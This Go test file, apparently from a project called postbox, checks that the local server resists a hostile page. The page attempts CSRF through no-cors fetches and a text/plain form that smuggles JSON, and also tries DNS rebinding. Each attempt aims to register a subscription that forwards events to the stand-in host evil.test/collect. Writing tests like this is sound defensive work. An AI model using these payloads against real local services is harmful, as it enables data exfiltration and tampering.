package console_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/postbox-events/postbox/internal/server"
	"github.com/postbox-events/postbox/internal/servertest"
)

// attackPage is a page of another site that the operator happens to open
// while postbox serve runs on their loopback without a token (the
// README's first command). Its script tries what a page can send without
// asking the server first, and reports each outcome in window.outcomes.
const attackPage = `<!doctype html><title>cat pictures</title>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink" action="%[1]s/v1/subscriptions">
<input name='{"name":"by-form","source":"webhooks","target":"http://evil.test/collect","x":"' value='"}'>
</form>
<script>
window.outcomes = {};
const base = %[1]q;
const sub = (name) => JSON.stringify({name, source: 'webhooks', start: 'earliest', target: 'http://evil.test/collect'});
(async () => {
  const o = window.outcomes;
  const send = async (what, url, init) => {
    try { const r = await fetch(url, init); o[what] = r.type === 'opaque' ? 'sent' : String(r.status); }
    catch (e) { o[what] = 'blocked'; }
  };
  await send('no-cors text', base + '/v1/subscriptions', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: sub('by-text')});
  await send('no-cors blob', base + '/v1/subscriptions', {method: 'POST', mode: 'no-cors', body: new Blob([sub('by-blob')])});
  await send('replay', base + '/v1/dead-letters/replay', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"all":true}'});
  await send('cors json', base + '/v1/subscriptions', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: sub('by-json')});
  await send('delete', base + '/v1/subscriptions/webhooks', {method: 'DELETE'});
  try { const r = await fetch(base + '/v1/subscriptions'); o.read = 'read ' + (await r.text()).length + ' bytes'; }
  catch (e) { o.read = 'blocked'; }
  document.getElementById('f').submit();
  document.querySelector('iframe').onload = () => { o.form = 'sent'; };
})();
</script>`

// TestCrossOriginPage: a page of another site can neither change postbox
// (no-cors fetches, a form, a JSON fetch) nor read it, and a page whose
// name is rebound to the server's address gets nothing but 421; the
// console at the server's own origin works (TestPages).
func TestCrossOriginPage(t *testing.T) {
	srv := servertest.Start(t, server.Config{}, nil)
	_, port, _ := net.SplitHostPort(srv.Addr)
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attackPage, srv.Base)
	}))
	t.Cleanup(evil.Close)
	_, evilPort, _ := net.SplitHostPort(strings.TrimPrefix(evil.URL, "http://"))

	ctx := tab(t, 1280, 900)
	do(t, ctx, "open the page of another site", chromedp.Navigate("http://evil.test:"+evilPort+"/"))
	wait(t, ctx, "the page's attempts", `window.outcomes && window.outcomes.form === 'sent'`)
	outcomes := evaluate[map[string]string](t, ctx, `window.outcomes`)
	if outcomes["read"] != "blocked" {
		t.Errorf("the page of another site read the API: %s", outcomes["read"])
	}
	if outcomes["cors json"] != "blocked" || outcomes["delete"] != "blocked" {
		t.Errorf("the browser let a preflighted request through: %v", outcomes)
	}

	// A page whose DNS name now points at the server: same origin with
	// the API in the browser's eyes, so only the server can refuse it.
	do(t, ctx, "open the rebound name", chromedp.Navigate("http://rebound.test:"+port+"/ui/"))
	rebound := evaluate[string](t, ctx, `(async () => {
		const get = await fetch('/v1/subscriptions');
		const post = await fetch('/v1/subscriptions', {method: 'POST', headers: {'Content-Type': 'application/json'},
			body: JSON.stringify({name: 'by-rebinding', source: 'webhooks', target: 'http://evil.test/collect'})});
		return get.status + ' ' + post.status + ' ' + (await get.text());
	})()`)
	if !strings.HasPrefix(rebound, "421 421 ") || !strings.Contains(rebound, "host_not_allowed") {
		t.Errorf("under a rebound name the API answered %q, want 421 host_not_allowed to both", rebound)
	}
	page := evaluate[string](t, ctx, `document.body.innerText`)
	if !strings.Contains(page, "host_not_allowed") {
		t.Errorf("the console under a rebound name showed %q, want the 421", page)
	}

	var list struct {
		Subscriptions []struct{ Name, Target string }
	}
	call(t, srv, "", "GET", "/v1/subscriptions", nil, http.StatusOK, &list)
	if len(list.Subscriptions) != 1 || list.Subscriptions[0].Name != "webhooks" {
		t.Fatalf("after the pages' attempts the subscriptions are %+v, want only webhooks, the default (outcomes %v)", list.Subscriptions, outcomes)
	}
}

// evaluate is the value of a JavaScript expression in the tab, awaited
// when it is a promise.
func evaluate[T any](t *testing.T, ctx context.Context, expr string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](expr, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatalf("evaluate %.60s: %v", expr, err)
	}
	return v
}
